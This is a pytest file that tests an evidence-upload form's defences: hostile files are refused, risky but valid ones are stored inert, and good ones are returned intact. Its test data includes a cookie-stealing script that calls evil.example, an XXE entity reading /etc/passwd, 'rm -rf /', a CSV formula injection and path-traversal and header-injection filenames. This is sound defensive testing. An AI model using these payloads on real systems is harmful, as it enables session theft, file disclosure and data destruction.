"""Hostile files handed in as evidence: refused in words, or stored inert; good ones are taken and come back whole."""

import io
import struct
import zlib
from urllib.parse import unquote

import pytest
from sqlalchemy import func, select

from app.core.db import db
from app.core.files import receiving
from app.core.files.models import StoredFile
from app.core.files.storing import LocalFolder, store
from app.diligence.models import Evidence
from app.diligence.queries import assessments as queries
from tests.conftest import begins_with
from tests.factories import assessments as make
from tests.factories import evidence as lay
from tests.factories.files import JPEG, MAIL, PNG, compound, office, package, pdf
from tests.factories.questionnaires import published
from tests.pages import words

ground = begins_with(lambda at: published(at, "to24"))
MOST = 400_000
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"

REFUSED = {
    "page.html": b"<!DOCTYPE html><html>" + SCRIPT,
    "page.htm": b"\xef\xbb\xbf  <html>" + SCRIPT,
    "as.pdf": b"<html>" + SCRIPT,
    "as.png": SVG,
    "drawing.svg": SVG,
    "drawing.xml": b'<?xml version="1.0"?>' + SVG,
    "entities.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "台帳.csv": b"<script>alert(1)</script>",
    "notes.txt": b"<!-- --><script>alert(1)</script>",
    "frame.txt": b"  \r\n<iframe src=//evil.example>",
    "setup.exe": b"MZ\x90\x00" + bytes(200),
    "report.pdf.exe": b"MZ\x90\x00" + bytes(200),
    "invoice.pdf": b"MZ\x90\x00%PDF-1.7",
    "tool.txt": b"#!/bin/sh\nrm -rf /\n",
    "elf.docx": b"\x7fELF" + bytes(200),
    "link.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
    "macro.js": b"WScript.Shell",
    "macro.docx": office("word", **{"word/vbaProject.bin": b"x"}),
    "macro.xls": compound("Workbook", "_VBA_PROJECT"),
    "locked.xlsx": compound("EncryptedPackage"),
    "sheet.pdf": office("xl"),
    "pdf.docx": pdf(),
    "photo.jpg": PNG,
    "cut.zip": package({"a.txt": b"a"})[:20],
    "cut.xlsx": b"PK\x03\x04" + bytes(40),
    "binary.txt": bytes(range(256)),
    "class.csv": b"\xca\xfe\xba\xbe" + bytes(60),
    "cab.zip": b"MSCF" + bytes(60),
    "unknown.bin": b"\x01\x02\x03" * 50,
    "empty.pdf": b"",
    "large.pdf": pdf() + bytes(MOST),
    ".": pdf(),
    "..": pdf(),
    "a\r\nSet-Cookie: x=1.pdf": pdf("header"),
}  # fmt: skip
# Taken, because they are what they say; what is active in them never runs on a page of ours.
INERT = {
    "active.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF",
    "polyglot.pdf": b"%PDF-1.7\n<html>" + SCRIPT + b"</html>\n%%EOF",
    "polyglot.png": PNG + b"<html>" + SCRIPT,
    "polyglot.jpg": JPEG + b"PK\x03\x04" + SVG,
    "formula.csv": b"name,value\n=cmd|'/C calc'!A0,1\n",
    "message.eml": MAIL.replace(b"<p>", SCRIPT),
    "../../etc/cron.d/x.pdf": pdf("path"),
    "..\\..\\windows\\x.pdf": pdf("backslash"),
    "\u202efdp.exe.pdf": pdf("reversed"),
    "quote\".pdf": pdf("quote"),
    "NUL:.pdf": pdf("device"),
    "x" * 300 + ".pdf": pdf("long"),
}  # fmt: skip


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


GOOD = {
    "契約書.pdf": pdf("契約"), "規程.docx": office("word"), "台帳.xlsx": office("xl"), "説明.pptx": office("ppt"),
    "図.png": _png(), "写真.jpeg": JPEG, "一覧.csv": "番号,名称\n1,鈴木\n".encode("cp932"),
    "覚書.txt": "以上のとおりです。".encode(), "照会.eml": MAIL, "旧.xls": compound("Workbook"),
    "まとめ.zip": package({"a.pdf": pdf()}), "拡張子なし": pdf("無名"),
}  # fmt: skip


@pytest.fixture
def part(ctx, engagement):
    return queries.assignments_of(make.sent(ctx, engagement))[1]


@pytest.fixture
def pages(part, at, pages_of):
    return pages_of(lay.vendor_person(at, part.organisation_id))


@pytest.fixture
def send(part, pages, monkeypatch):
    """The form once, then one sending of it for each file."""
    monkeypatch.setattr(receiving, "most_bytes", lambda: MOST)
    url = f"/requests/{part.id}/evidence/new"
    page = pages.get(url)
    held = {tag["name"]: tag["value"] for tag in page.select("#form input[type=hidden]")}
    base = {**held, "place": part.questions[0], "disclosure": "public"}

    def sending(name: str, content: bytes, status: int):
        key = f"key-{name[:40].encode().hex()}"
        return pages.post(
            url, status=status, fields={**base, "idempotency_key": key, "file": (io.BytesIO(content), name)}
        )

    return sending


def test_what_is_not_taken_is_refused_in_words_and_leaves_nothing(session, send):
    for name, content in REFUSED.items():
        page = send(name, content, 422)
        box = page.find("input", {"name": "file"})
        assert box["aria-invalid"] == "true", name
        told = words(page.select_one(".field-error"))
        assert len(told) > 10, name
        assert "<script" not in str(page.find("main")), name
    db.session.expire_all()
    assert session.scalar(select(func.count()).select_from(Evidence)) == 0
    assert session.scalar(select(func.count()).select_from(StoredFile)) == 0


def test_what_is_taken_comes_back_as_a_file_and_never_as_a_page(session, send, pages, part):
    for name, content in INERT.items():
        send(name, content, 303)
    db.session.expire_all()
    made = list(session.scalars(select(Evidence).order_by(Evidence.id)))
    assert len(made) == len(INERT)
    for row, content in zip(made, INERT.values(), strict=True):
        assert not set(row.name) & set('/\\<>:"|?*\r\n\u202e'), row.name
        assert len(row.name) <= 200
        answer = pages.get(f"/requests/{part.id}/evidence/{row.id}/file")
        assert answer.data == content
        headers = answer.headers
        assert headers["Content-Disposition"].startswith("attachment; "), row.name
        assert unquote(headers["Content-Disposition"].rsplit("''", 1)[1]) == row.name
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
        assert not headers["Content-Type"].startswith(("text/html", "image/svg", "text/xml", "application/x"))
        assert "Set-Cookie" not in headers or "x=1" not in headers["Set-Cookie"]
    page = pages.get(f"/requests/{part.id}/evidence")
    assert "<script>fetch" not in str(page)


def test_good_files_are_taken_and_come_back_whole(session, send, pages, part):
    for name, content in GOOD.items():
        send(name, content, 303)
    db.session.expire_all()
    made = {row.name: row for row in session.scalars(select(Evidence))}
    assert set(made) == {*GOOD, "拡張子なし.pdf"} - {"拡張子なし"}
    for name, content in GOOD.items():
        row = made.get(name) or made[f"{name}.pdf"]
        assert pages.get(f"/requests/{part.id}/evidence/{row.id}/file").data == content
    folder = store()
    assert isinstance(folder, LocalFolder)
    lying = [path.read_bytes() for path in folder.root.rglob("*") if path.is_file()]
    assert not [held for held in lying for content in GOOD.values() if content[:60] in held]
